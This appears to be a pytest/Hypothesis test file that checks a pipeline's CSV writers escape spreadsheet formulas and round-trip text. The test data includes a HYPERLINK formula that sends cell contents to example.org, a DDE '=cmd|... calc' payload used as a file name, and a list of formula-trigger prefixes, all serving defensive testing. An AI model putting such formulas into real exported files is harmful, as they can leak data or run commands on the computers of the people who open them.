"""Tables that a spreadsheet program opens: no text is a formula, and each comes back as it was."""

import csv
import importlib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from valentina_pipeline.datasets.tables import Csv, _CsvFile
from valentina_pipeline.integrations import captions, ledgers, run_inputs, tables
from valentina_pipeline.serving.cli.consistency import Row, _table

EVIL = '=HYPERLINK("http://example.org?"&A1,"her")'
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@given(st.text() | st.builds("{}{}".format, st.sampled_from([*RUN, "'", "''", "'=", "''+"]), st.text()))
@example(EVIL)
@example("'=1")
@example("'tis she")
def test_a_text_comes_back_and_runs_nothing(text: str) -> None:
    written = tables.escape_formula(text)
    assert not written.startswith(RUN)
    assert tables.unescape_formula(written) == text
    assert written == text or text.lstrip("'").startswith(RUN)


def test_numbers_are_written_as_they_are(tmp_path: Path) -> None:
    table = pd.DataFrame({"loss": np.array([-0.1, 0.5], np.float32), "step": [-1, 2], "why": ["", "-"]})
    file = Csv(filepath=str(tmp_path / "loss.csv"))
    file.save(table)
    assert (tmp_path / "loss.csv").read_text() == "loss,step,why\n-0.1,-1,\n0.5,2,'-\n"
    assert file.load()["loss"].tolist() == [-0.1, 0.5]
    empty = pd.DataFrame({"source_name": [], "reason": []})
    file.save(empty)
    assert (tmp_path / "loss.csv").read_text() == "source_name,reason\n"


def cells(file: Path) -> list[str]:
    with file.open(newline="", encoding="utf-8") as opened:
        return [cell for row in csv.reader(opened) for cell in row]


def test_captions_keep_what_people_write(tmp_path: Path) -> None:
    file = tmp_path / "data/04_feature/her/captions.csv"
    machine = pd.DataFrame([["a" * 64, "=cmd|' /C calc'!A0.png", "photo"]], columns=list(captions.BY_MACHINE))
    captions.merge_machine_captions(file, machine)
    captions.edit(file, {"a" * 64: captions.Edit({"human": ""}, {"human": "-her, smiling"})}, "@ada")
    captions.merge_machine_captions(file, machine)
    assert not [cell for cell in cells(file) if cell.startswith(RUN)]
    (row,) = captions.read(file).to_dict("records")
    assert [row[name] for name in ("source_name", "human", "editor")] == [
        "=cmd|' /C calc'!A0.png", "-her, smiling", "@ada",
    ]  # fmt: skip
    assert run_inputs._human_captions(file) == [("a" * 64, "-her, smiling")]


def test_a_revocation_s_reason_is_no_formula(tmp_path: Path) -> None:
    from datetime import date

    ledger = tmp_path / "ada_lind" / "shoot.csv"
    ledger.parent.mkdir()
    head = "id,holder,covers,uses,license,synthetic,expires,evidence"
    ledger.write_text(f"{head}\nada,Ada,-shoot/*,training,CC0-1.0,true,,letter\n")
    ledgers.revoke(tmp_path, "ada", EVIL, date(2026, 1, 2))
    assert not [cell for cell in cells(ledger) if cell.startswith(RUN)]
    (record,) = ledgers.read_file(ledger)
    assert (record.covers, record.revocation) == ("-shoot/*", EVIL)


def test_names_of_files_that_are_compared_are_no_formulas(tmp_path: Path) -> None:
    (tmp_path / "consistency.csv").write_bytes(_table([Row("=1+1.png", "hers", 0.5, "-")]))
    assert cells(tmp_path / "consistency.csv")[4:] == ["'=1+1.png", "hers", "0.5", "'-"]


@pytest.mark.parametrize(
    "name",
    ["rejections", "caption_fields", "image_scores", "train_loss", "validation_curve", "identity_plot"],
)
def test_every_table_of_the_catalog_is_such_a_table(root: Path, name: str) -> None:
    import yaml

    entries = yaml.safe_load((root / "conf/base/catalog.yml").read_text("utf-8"))
    module, kind = entries[name]["type"].rsplit(".", 1)
    assert issubclass(getattr(importlib.import_module(module), kind), _CsvFile)
    assert not [each for each in entries.values() if isinstance(each, dict) and "CSVDataset" in each["type"]]
